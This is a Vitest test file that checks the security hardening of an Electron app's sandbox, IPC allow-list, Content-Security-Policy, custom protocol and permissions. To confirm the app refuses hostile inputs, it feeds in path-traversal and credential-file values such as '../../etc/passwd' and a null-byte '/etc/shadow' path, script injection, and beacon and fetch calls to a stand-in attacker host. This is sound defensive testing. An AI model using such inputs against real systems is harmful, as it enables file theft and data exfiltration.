import { readFileSync } from "node:fs"
import { join } from "node:path"
import { fileURLToPath } from "node:url"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { methodNames } from "#shared/api/methods"
import { refusals } from "#shared/services/messages"
import { type ElectronRun, launchElectron } from "./launch"

/** The ten settings, asked of the built bundles: what the program registered, and what it answers. */
const root = fileURLToPath(new URL("../../..", import.meta.url))
const page = "app://bundle/index.html"

interface Inspected {
  sandboxed: boolean
  switches: Record<string, string>
  schemes: { scheme: string; privileges: Record<string, boolean> }[]
  channels: string[]
  windows: { webPreferences: Record<string, unknown> }[]
}

describe("what the page may do", () => {
  let run: ElectronRun
  let inspected: Inspected
  beforeAll(async () => {
    run = await launchElectron()
    inspected = await run.ask<Inspected>("inspect")
  })
  afterAll(() => run.close())

  it("the page runs in the sandbox, apart from Node and from the preload script", () => {
    expect(inspected.sandboxed).toBe(true)
    expect(inspected.windows).toHaveLength(1)
    expect(inspected.windows[0]!.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      webviewTag: false,
      navigateOnDragDrop: false,
      spellcheck: false,
    })
  })

  it("its scheme has an origin and nothing that goes round the policy", () => {
    expect(inspected.schemes).toEqual([
      { scheme: "app", privileges: { standard: true, secure: true, supportFetchAPI: true } },
    ])
  })

  it("Chromium's own ways to the network are cut", () => {
    expect(inspected.switches["host-resolver-rules"]).toBe("MAP * ~NOTFOUND")
    expect(inspected.switches).toHaveProperty("disable-background-networking")
    expect(inspected.switches).toHaveProperty("no-proxy-server")
  })

  it("it is given named functions and nothing else", async () => {
    const names = await run.page.evaluate(() => Object.keys(window.host!).sort())
    expect(names).toEqual([...methodNames, "onClosing", "onCommand", "onFileOpened", "openDropped"].sort())
    expect(await run.page.evaluate(() => Object.isFrozen(window.host))).toBe(true)
  })

  it("the preload script is one small file that loads Electron alone", () => {
    const code = readFileSync(join(root, "out/preload/index.cjs"), "utf8")
    expect([...code.matchAll(/require\("([^"]+)"\)/g)].map((match) => match[1])).toEqual(["electron"])
    expect(code).not.toMatch(/\bimport\b|process\.|zod/)
    expect(code.length).toBeLessThan(4096)
  })

  it("every method has a handler, and there are no others", () => {
    expect(inspected.channels).toEqual([...methodNames, "openDropped"].map((name) => `host:${name}`).sort())
  })

  describe("a call is answered", () => {
    const call = (
      from: { url: string; main: boolean; gone?: boolean; other?: boolean },
      channel = "host:listReports",
    ) => run.ask("invoke", { channel, value: {}, from })

    it("for the main frame of our own page", async () =>
      expect(await call({ url: page, main: true })).toEqual({ ok: true, value: [] }))

    it.each([
      ["another page", { url: "https://evil.example/", main: true }],
      ["a page whose address only contains ours", { url: `https://evil.example/?${page}`, main: true }],
      ["another host of our scheme", { url: "app://bundle.evil/index.html", main: true }],
      ["a file", { url: "file:///index.html", main: true }],
      ["a frame within our page", { url: page, main: false }],
      ["an empty frame within our page", { url: "about:blank", main: false }],
      ["a frame that has gone", { url: page, main: true, gone: true }],
      ["a page of ours outside the window", { url: page, main: true, other: true }],
    ])("not for %s", async (_, from) => {
      await expect(call(from)).rejects.toThrow("refused host:listReports")
      await expect(call(from, "host:openDropped")).rejects.toThrow("refused host:openDropped")
    })

    it("only where its argument has the shape of the contract", async () => {
      const answers = await run.page.evaluate(async () => {
        const host = window.host as unknown as Record<string, (input?: unknown) => Promise<unknown>>
        return [
          await host.openReport!({ id: "../../etc/passwd" }),
          await host.openReport!({ id: "r12345678", more: 1 }),
          await host.saveReport!({}),
          await host.exportFile!({ suggestedName: "a.docx", bytes: "text" }),
          await host.setWindow!({ title: "x", edited: false, enabled: ["format"], checked: [] }),
          await host.listReports!(),
        ]
      })
      for (const [i, answer] of answers.entries()) {
        if (i === 1) continue
        expect(answer).toEqual({ ok: false, failure: { reason: "unexpected", message: refusals.unexpected } })
      }
      expect(run.dialogs.shown).toEqual([])
    })

    it("a path only where a dropped file of ours can lie", async () => {
      const send = (value: unknown) =>
        run.ask<{ ok: boolean }>("invoke", {
          channel: "host:openDropped",
          value,
          from: { url: page, main: true },
        })
      for (const value of [
        { path: "/etc/passwd" },
        { path: "relative.docx" },
        { path: "/etc/shadow.docx\0" },
        { path: "a.docx", name: "a.docx" },
        { name: "a", size: 1, bytes: "x" },
        "a.docx",
        null,
      ])
        expect(await send(value)).toMatchObject({ ok: false, failure: { reason: "unexpected" } })
    })
  })

  describe("the policy", () => {
    it("is sent with the page, and the browser keeps it", async () => {
      const answer = await run.ask<{ headers: Record<string, string> }>("request", {
        url: page,
        method: "GET",
      })
      expect(answer.headers["content-security-policy"]).toContain("default-src 'none'")
      const broken = await run.page.evaluate(async () => {
        const offences: string[] = []
        document.addEventListener("securitypolicyviolation", (event) =>
          offences.push(event.effectiveDirective),
        )
        const script = document.createElement("script")
        script.textContent = "window.__injected = true"
        document.head.append(script)
        const style = document.createElement("style")
        style.textContent = "body { color: red }"
        document.head.append(style)
        const frame = document.createElement("iframe")
        frame.src = "data:text/html,x"
        document.body.append(frame)
        const image = document.createElement("img")
        image.src = "https://evil.example/?secret"
        document.body.append(image)
        // Later, for the debugger that runs this function may evaluate what it likes.
        setTimeout(() => {
          try {
            new Function("window.__injected = true")()
          } catch {
            offences.push("eval")
          }
        })
        await fetch("https://evil.example/").catch(() => offences.push("fetch"))
        await new Promise((done) => setTimeout(done, 100))
        for (const element of [script, style, frame, image]) element.remove()
        return { offences, injected: "__injected" in window }
      })
      expect(broken.injected).toBe(false)
      for (const offence of ["script-src-elem", "style-src-elem", "frame-src", "img-src", "eval", "fetch"])
        expect(broken.offences).toContain(offence)
      run.errors.length = 0
    })

    it("serves the bundle, and nothing beside it", async () => {
      const status = async (url: string, method = "GET") =>
        (await run.ask<{ status: number }>("request", { url, method })).status
      expect(await status(page)).toBe(200)
      for (const url of [
        "app://bundle/..%2fmain%2findex.js",
        "app://bundle/..%2f..%2fpackage.json",
        "app://bundle/%2e%2e%2fpreload%2findex.cjs",
        "app://other/index.html",
      ])
        expect(await status(url)).toBe(404)
      expect(await status(page, "POST")).toBe(405)
    })
  })

  it.each([
    ["https://evil.example/", true],
    ["http://127.0.0.1:41730/", true],
    ["wss://evil.example/", true],
    ["file:///etc/passwd", true],
    ["ftp://evil.example/", true],
    ["app://bundle/index.html", false],
    ["blob:app://bundle/1", false],
    ["data:text/plain,x", false],
  ])("a request for %s is cancelled: %s", async (url, cancelled) =>
    expect(await run.ask("cancels", url)).toBe(cancelled),
  )

  it.each([
    "geolocation",
    "media",
    "notifications",
    "clipboard-read",
    "fileSystem",
    "openExternal",
    "hid",
    "usb",
  ])("%s is refused, asked and checked", async (permission) =>
    expect(await run.ask("permission", { permission, url: page })).toEqual({
      asked: false,
      checked: false,
      device: false,
    }),
  )

  it("copying is granted, to our own page alone", async () => {
    const permission = "clipboard-sanitized-write"
    expect(await run.ask("permission", { permission, url: page })).toMatchObject({
      asked: true,
      checked: true,
    })
    expect(await run.ask("permission", { permission, url: "https://evil.example/" })).toMatchObject({
      asked: false,
      checked: false,
    })
  })

  it("the page stays where it is", async () => {
    for (const event of ["will-navigate", "will-redirect", "will-attach-webview"])
      for (const url of ["https://evil.example/", page])
        expect(await run.ask("navigates", { event, url })).toBe(false)
    await run.page.evaluate(() => {
      const link = document.createElement("a")
      link.href = "https://evil.example/"
      document.body.append(link)
      link.click()
      link.remove()
    })
    await run.page.waitForTimeout(300)
    expect(run.page.url()).toMatch(/\/index\.html$/)
    expect(await run.page.evaluate(() => "host" in window)).toBe(true)
  })

  it("no window opens, nothing is downloaded, and no call goes round the rules", async () => {
    for (const url of ["https://evil.example/", page]) expect(await run.ask("opensWindow", url)).toBe("deny")
    expect(await run.page.evaluate(() => window.open("https://evil.example/"))).toBeNull()
    expect(await run.ask("download")).toBe(false)
    expect(await run.ask("webRtc")).toBe("disable_non_proxied_udp")
  })

  it("none of this made the page complain", () => expect(run.errors).toEqual([]))
})
